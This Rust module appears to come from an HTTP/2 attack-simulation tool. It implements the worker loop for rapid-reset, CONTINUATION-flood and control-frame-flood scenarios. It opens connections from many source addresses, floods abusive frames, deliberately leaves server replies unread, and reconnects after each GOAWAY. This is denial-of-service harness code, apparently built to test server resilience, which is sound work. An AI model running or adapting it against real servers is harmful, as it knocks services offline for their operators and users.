//! The shape of the HTTP/2 abuse scenarios (`h2-rapid-reset`, `h2-continuation-flood`,
//! `h2-control-flood`): connections from many addresses, each set up properly (preface,
//! SETTINGS exchange) and then fed round after round of abusive frames as fast as the server
//! takes them, until the server closes it; then another. A server that bounds the work one
//! connection may cause closes it early (GOAWAY), and the attacker pays a new handshake.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use super::{AttackCounters, AttackCtx, workers};
use crate::h2wire::{self, RawH2};

/// The bytes of one round and how many streams or frames they count for.
pub type Round = (Vec<u8>, u64);

/// What an abuse scenario sends.
#[derive(Clone, Copy)]
pub struct Abuse {
    /// The bytes of round `round` (from 0) on one connection to `host`, and how many streams
    /// or frames they count for; `None` when this connection is spent and another is needed.
    pub round: fn(host: &str, round: u32) -> Option<Round>,
    /// Whether the server's frames are read (its HEADERS counted as responses), or left
    /// unread so that its acknowledgements pile up on its side.
    pub read: bool,
}

/// Runs `ctx.preset.h2_connections` abusive connections until `ctx.until`.
pub async fn run(ctx: AttackCtx, counters: Arc<AttackCounters>, abuse: Abuse) {
    let count = ctx.preset.h2_connections;
    workers::run(ctx, counters, count, move |ctx, counters, i| async move {
        worker(&ctx, i, &counters, abuse).await
    })
    .await;
}

async fn worker(ctx: &AttackCtx, i: usize, counters: &AttackCounters, abuse: Abuse) {
    let src = ctx.sources.pick(i);
    loop {
        let Some(h2) =
            workers::attempt(counters, async { RawH2::open(&ctx.client, src).await.ok() }).await
        else {
            continue;
        };
        counters.opened();
        let RawH2 {
            mut reader,
            mut writer,
        } = h2;
        let host = ctx.client.host();
        let writing = async {
            let mut round = 0;
            while let Some((bytes, count)) = (abuse.round)(host, round) {
                if h2wire::send(&mut writer, &bytes).await.is_err() {
                    return true;
                }
                counters.sent(count);
                round += 1;
            }
            false
        };
        let reading = async {
            if abuse.read {
                h2wire::read_until_closed(&mut reader, || {
                    counters.responses.fetch_add(1, Ordering::Relaxed);
                })
                .await;
            } else {
                std::future::pending::<()>().await;
            }
        };
        let cut = tokio::select! {
            cut = writing => cut,
            () = reading => true,
        };
        counters.closed();
        if cut {
            counters.cut.fetch_add(1, Ordering::Relaxed);
        }
    }
}
